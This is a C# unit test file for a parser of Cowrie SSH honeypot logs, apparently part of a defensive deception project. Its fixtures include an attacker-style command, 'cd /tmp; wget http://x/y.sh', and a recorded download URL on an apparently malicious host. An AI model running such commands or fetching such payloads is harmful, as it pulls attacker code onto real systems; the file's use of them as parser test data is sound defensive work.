using System.Security.Cryptography;
using System.Text;
using Decnet.Engine.Ingest;
using static Decnet.Tests.Ingest.IngestTestData;

namespace Decnet.Tests.Ingest;

public class CowrieLineParserTests
{
    private static readonly CowrieLineParser Parser = new();

    private const string Connect =
        """{"eventid": "cowrie.session.connect", "src_ip": "185.222.209.151", "src_port": 58875, "timestamp": "2018-05-10T00:09:27.838173Z", "message": "New connection: 185.222.209.151:58875 (172.17.0.3:2222) [session: ab29aebee4e6]", "dst_ip": "172.17.0.3", "system": "cowrie.ssh.factory.CowrieSSHFactory", "protocol": "ssh", "isError": 0, "session": "ab29aebee4e6", "dst_port": 2222, "sensor": "920497a79896"}""";

    private const string ClientVersion =
        """{"macCS": ["hmac-sha1", "hmac-md5", "hmac-sha2-256"], "session": "ab29aebee4e6", "kexAlgs": ["diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"], "message": "Remote SSH version: SSH-2.0-OpenSSH_7.3", "system": "HoneyPotSSHTransport,670,185.222.209.151", "src_ip": "185.222.209.151", "version": "SSH-2.0-OpenSSH_7.3", "sensor": "920497a79896", "eventid": "cowrie.client.version", "timestamp": "2018-05-10T00:09:27.972719Z", "keyAlgs": ["ssh-rsa", "ssh-dss"], "isError": 0, "compCS": ["none"], "encCS": ["3des-cbc", "aes256-ctr"]}""";

    private const string DirectTcpip =
        """{"eventid": "cowrie.direct-tcpip.request", "timestamp": "2018-05-10T00:24:53.347153Z", "dst_ip": "2a00:1450:400f:80a::200e", "system": "SSHService 'ssh-connection' on HoneyPotSSHTransport,672,195.3.147.49", "isError": 0, "src_ip": "195.3.147.49", "session": "0311af06432d", "dst_port": 80, "src_port": 22444, "message": "direct-tcp connection request", "sensor": "920497a79896"}""";

    private const string FileDownload =
        """{"eventid": "cowrie.session.file_download", "shasum": "f8c28666f2f2beb599dcc62721c41a82f52e63721dd2d5629073033b32a93154", "url": "http://mdb7.cn:8081/exp", "timestamp": "2018-05-19T18:01:46.368454Z", "system": "SSHChannel session (5) on SSHService 'ssh-connection' on HoneyPotSSHTransport,3610,111.73.46.18", "isError": 0, "src_ip": "111.73.46.18", "outfile": "dl/f8c2", "session": "abc60b61c358", "sensor": "920497a79896", "message": "Saved"}""";

    private static DecnetEvent Parse(string line)
    {
        if (!Parser.TryParse(Utf8(line), out var ev, out var error)) throw new InvalidOperationException("unexpected failure: " + error);
        return ev;
    }

    [Test]
    public async Task SessionConnectMapsEveryField()
    {
        var ev = Parse(Connect);
        await Assert.That(ev.Event).IsEqualTo(EventTypes.SessionConnect);
        await Assert.That(ev.SrcIp).IsEqualTo("185.222.209.151");
        await Assert.That(ev.SrcPort).IsEqualTo(58875);
        await Assert.That(ev.Service).IsEqualTo("ssh");
        await Assert.That(ev.Decky).IsEqualTo("920497a79896");
        await Assert.That(ev.Session).IsEqualTo("ab29aebee4e6");
        await Assert.That(ev.Timestamp).IsEqualTo(new DateTimeOffset(2018, 5, 10, 0, 9, 27, TimeSpan.Zero).AddTicks(8381730));
        await Assert.That(ev.Timestamp.Offset).IsEqualTo(TimeSpan.Zero);
        // The honeypot's own address is not a destination of interest.
        await Assert.That(ev.DstHost).IsNull();
        await Assert.That(ev.DstPort).IsNull();
        await Assert.That(ev.Id).IsEqualTo(EventId.FromLine(Utf8(Connect)));
    }

    [Test]
    [Arguments("'protocol': 'telnet', 'dst_port': 22", "telnet")]
    [Arguments("'dst_port': 22", "ssh")]
    [Arguments("'dst_port': 2222", "ssh")]
    [Arguments("'dst_port': 23", "telnet")]
    [Arguments("'dst_port': 2223", "telnet")]
    [Arguments("'dst_port': 8080", null)]
    [Arguments("'dst_port': 8080, 'system': 'CowrieTelnetTransport,5,1.2.3.4'", "telnet")]
    public async Task ConnectServiceFromProtocolElsePort(string extra, string? service)
    {
        var ev = Parse(Json("{'eventid': 'cowrie.session.connect', 'src_ip': '1.2.3.4', 'timestamp': '2018-05-10T00:00:00Z', " + extra + "}"));
        await Assert.That(ev.Service).IsEqualTo(service);
    }

    [Test]
    public async Task ClientVersionComputesHasshFromTheLists()
    {
        var ev = Parse(ClientVersion);
        var expected = Convert.ToHexStringLower(MD5.HashData(Encoding.UTF8.GetBytes(
            "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1;3des-cbc,aes256-ctr;hmac-sha1,hmac-md5,hmac-sha2-256;none")));
        await Assert.That(ev.Event).IsEqualTo(EventTypes.ClientVersion);
        await Assert.That(ev.SshVersion).IsEqualTo("SSH-2.0-OpenSSH_7.3");
        await Assert.That(ev.Hassh).IsEqualTo(expected);
        await Assert.That(ev.Service).IsEqualTo("ssh");
    }

    [Test]
    public async Task ClientVersionWithoutAllFourListsHasNoHassh()
    {
        var ev = Parse(Json("{'eventid': 'cowrie.client.version', 'src_ip': '1.2.3.4', 'timestamp': '2018-05-10T00:00:00Z', 'version': 'SSH-2.0-Go', 'kexAlgs': ['a'], 'encCS': ['b'], 'macCS': ['c']}"));
        await Assert.That(ev.SshVersion).IsEqualTo("SSH-2.0-Go");
        await Assert.That(ev.Hassh).IsNull();
    }

    [Test]
    public async Task ClientKexTakesTheGivenHassh()
    {
        var ev = Parse(Json("{'eventid': 'cowrie.client.kex', 'src_ip': '1.2.3.4', 'timestamp': '2018-05-10T00:00:00Z', 'hassh': '0123456789abcdef0123456789abcdef', 'kexAlgs': ['a'], 'encCS': ['b'], 'macCS': ['c'], 'compCS': ['d']}"));
        await Assert.That(ev.Event).IsEqualTo(EventTypes.ClientKex);
        await Assert.That(ev.Hassh).IsEqualTo("0123456789abcdef0123456789abcdef");
    }

    [Test]
    public async Task ClientKexWithoutHasshComputesIt()
    {
        // Escaped list entries are unescaped before hashing.
        var ev = Parse(Json("{'eventid': 'cowrie.client.kex', 'src_ip': '1.2.3.4', 'timestamp': '2018-05-10T00:00:00Z', 'kexAlgs': ['curve25519-sha256', 'ext-info-c'], 'encCS': ['aes128-ctr'], 'macCS': ['hmac-sha2-256'], 'compCS': ['none', 'zlib\\u0040openssh.com']}"));
        var expected = Convert.ToHexStringLower(MD5.HashData("curve25519-sha256,ext-info-c;aes128-ctr;hmac-sha2-256;none,zlib@openssh.com"u8));
        await Assert.That(ev.Hassh).IsEqualTo(expected);
    }

    [Test]
    [Arguments("cowrie.login.failed", EventTypes.LoginFailed)]
    [Arguments("cowrie.login.success", EventTypes.LoginSuccess)]
    public async Task LoginsCarryCredentials(string eventId, string expected)
    {
        var ev = Parse(Json("{'eventid': '" + eventId + "', 'username': '', 'timestamp': '2018-05-10T00:09:28.188455Z', 'system': 'SSHService ssh-userauth on HoneyPotSSHTransport,670,1.2.3.4', 'src_ip': '1.2.3.4', 'session': 's1', 'password': 'p\\'a\\\\ss\\u00e9', 'sensor': 'x'}"));
        await Assert.That(ev.Event).IsEqualTo(expected);
        await Assert.That(ev.Username).IsEqualTo("");
        await Assert.That(ev.Password).IsEqualTo("p\"a\\ssé");
        await Assert.That(ev.Service).IsEqualTo("ssh");
    }

    [Test]
    public async Task CommandInputIsTheCommand()
    {
        var ev = Parse(Json("{'eventid': 'cowrie.command.input', 'timestamp': '2018-05-06T17:44:57.757002Z', 'message': 'CMD: ls', 'src_ip': '88.223.26.58', 'session': 'ef410359268d', 'input': 'cd /tmp; wget http://x/y.sh', 'sensor': 's'}"));
        await Assert.That(ev.Event).IsEqualTo(EventTypes.CommandInput);
        await Assert.That(ev.Command).IsEqualTo("cd /tmp; wget http://x/y.sh");
    }

    [Test]
    public async Task FileDownloadKeepsUrlAndSha256()
    {
        var ev = Parse(FileDownload);
        await Assert.That(ev.Event).IsEqualTo(EventTypes.FileDownload);
        await Assert.That(ev.Url).IsEqualTo("http://mdb7.cn:8081/exp");
        await Assert.That(ev.Sha256).IsEqualTo("f8c28666f2f2beb599dcc62721c41a82f52e63721dd2d5629073033b32a93154");
    }

    [Test]
    public async Task DirectTcpipKeepsTheDestination()
    {
        var ev = Parse(DirectTcpip);
        await Assert.That(ev.Event).IsEqualTo(EventTypes.DirectTcpip);
        await Assert.That(ev.DstHost).IsEqualTo("2a00:1450:400f:80a::200e");
        await Assert.That(ev.DstPort).IsEqualTo(80);
        await Assert.That(ev.SrcPort).IsEqualTo(22444);
        await Assert.That(ev.Service).IsEqualTo("ssh");
    }

    [Test]
    [Arguments("cowrie.session.closed", EventTypes.SessionClosed)]
    [Arguments("cowrie.log.open", "log.open")]
    [Arguments("cowrie.direct-tcpip.data", "direct-tcpip.data")]
    [Arguments("cowrie.session.file_download.failed", "session.file_download.failed")]
    [Arguments("cowrie.brand.new_thing", "brand.new_thing")]
    [Arguments("other.event", "other.event")]
    public async Task EventIdsMapOrLoseThePrefix(string eventId, string expected)
    {
        var ev = Parse(Json("{'eventid': '" + eventId + "', 'timestamp': '2018-05-10T00:09:29.226879Z', 'src_ip': '1.2.3.4', 'duration': 1.38, 'session': 's', 'sensor': 'x', 'nested': {'a': [1, {'b': 2}]}}"));
        await Assert.That(ev.Event).IsEqualTo(expected);
    }

    [Test]
    [Arguments("::ffff:10.1.2.3", "10.1.2.3")]
    [Arguments("2001:DB8:0:0::1", "2001:db8::1")]
    [Arguments("010.001.002.003", "10.1.2.3")]
    public async Task SourceAddressesAreNormalised(string given, string expected)
    {
        var ev = Parse(Json("{'eventid': 'cowrie.session.closed', 'timestamp': '2018-05-10T00:00:00Z', 'src_ip': '" + given + "'}"));
        await Assert.That(ev.SrcIp).IsEqualTo(expected);
    }

    [Test]
    [Arguments("{'timestamp': '2018-05-10T00:00:00Z', 'src_ip': '1.2.3.4'}", "missing field 'eventid'")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'timestamp': '2018-05-10T00:00:00Z'}", "missing field 'src_ip'")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3.4'}", "missing field 'timestamp'")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3', 'timestamp': '2018-05-10T00:00:00Z'}", "invalid ip in field 'src_ip': \"1.2.3\"")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '256.1.1.1', 'timestamp': '2018-05-10T00:00:00Z'}", "invalid ip in field 'src_ip': \"256.1.1.1\"")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': 'example.com', 'timestamp': '2018-05-10T00:00:00Z'}", "invalid ip in field 'src_ip': \"example.com\"")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': 7, 'timestamp': '2018-05-10T00:00:00Z'}", "field 'src_ip' is not a string")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3.4', 'timestamp': '2018-02-30T00:00:00Z'}", "invalid timestamp in field 'timestamp': \"2018-02-30T00:00:00Z\"")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3.4', 'timestamp': 'yesterday'}", "invalid timestamp in field 'timestamp': \"yesterday\"")]
    [Arguments("{'eventid': 42, 'src_ip': '1.2.3.4', 'timestamp': '2018-05-10T00:00:00Z'}", "field 'eventid' is not a string")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3.4', 'src_port': 70000, 'timestamp': '2018-05-10T00:00:00Z'}", "port out of range in field 'src_port': 70000")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3.4', 'username': ['x'], 'timestamp': '2018-05-10T00:00:00Z'}", "field 'username' is not a string")]
    [Arguments("{'eventid': 'cowrie.client.version', 'src_ip': '1.2.3.4', 'kexAlgs': 'x', 'timestamp': '2018-05-10T00:00:00Z'}", "field 'kexAlgs' is not an array")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3.4', 'timestamp': '2018-05-10T00:00:00Z'} {}", "trailing data after the JSON object")]
    [Arguments("['cowrie.login.failed']", "not a JSON object")]
    [Arguments("", "empty line")]
    public async Task MalformedLinesNameTheProblem(string line, string expectedError)
    {
        var ok = Parser.TryParse(Utf8(Json(line)), out var ev, out var error);
        await Assert.That(ok).IsFalse();
        await Assert.That(ev).IsNull();
        await Assert.That(error).IsEqualTo(expectedError);
    }

    [Test]
    [Arguments("not json at all")]
    [Arguments("{'eventid': 'cowrie.login.failed', 'src_")]
    [Arguments("{'eventid': 'cowrie.login.failed' 'src_ip': '1.2.3.4'}")]
    public async Task BrokenJsonIsMalformed(string line)
    {
        var ok = Parser.TryParse(Utf8(Json(line)), out _, out var error);
        await Assert.That(ok).IsFalse();
        await Assert.That(error).StartsWith("invalid JSON at byte ");
    }

    [Test]
    public async Task NestedValuesUnderIgnoredOrLooseFieldsAreSkippedWhole()
    {
        var ev = Parse(Json("{'eventid': 'cowrie.session.connect', 'system': {'src_ip': '9.9.9.9', 'eventid': 'x'}, 'protocol': ['telnet'], 'src_ip': '1.2.3.4', 'extra': [{'src_ip': '8.8.8.8'}], 'timestamp': '2018-05-10T00:00:00Z', 'dst_port': 22}"));
        await Assert.That(ev.SrcIp).IsEqualTo("1.2.3.4");
        await Assert.That(ev.Event).IsEqualTo(EventTypes.SessionConnect);
        await Assert.That(ev.Service).IsEqualTo("ssh");
    }

    [Test]
    public async Task UndecodableStringNamesItsField()
    {
        // A lone surrogate escape cannot become a .NET string.
        var ok = Parser.TryParse(Utf8(Json("{'eventid': 'cowrie.login.failed', 'src_ip': '1.2.3.4', 'timestamp': '2018-05-10T00:00:00Z', 'username': 'a\\udc00b'}")), out _, out var error);
        await Assert.That(ok).IsFalse();
        await Assert.That(error).IsEqualTo("unreadable value in field 'username'");
    }

    [Test]
    public async Task LeadingBomIsIgnored()
    {
        var ev = Parse("\uFEFF" + Connect);
        await Assert.That(ev.SrcIp).IsEqualTo("185.222.209.151");
    }

    [Test]
    public async Task IdsAreStableAndLineSpecific()
    {
        var line = Utf8(Connect);
        var a = Parse(Connect).Id;
        var b = Parse(Connect).Id;
        var withCrlf = Parse(Connect + "\r\n").Id;
        var other = Parse(Connect.Replace("58875", "58876")).Id;
        var expected = Convert.ToHexStringLower(System.IO.Hashing.XxHash128.Hash(line));
        await Assert.That(a).IsEqualTo(b);
        await Assert.That(withCrlf).IsEqualTo(a);
        await Assert.That(other).IsNotEqualTo(a);
        await Assert.That(a).IsEqualTo(expected);
        await Assert.That(a.Length).IsEqualTo(32);
    }
}
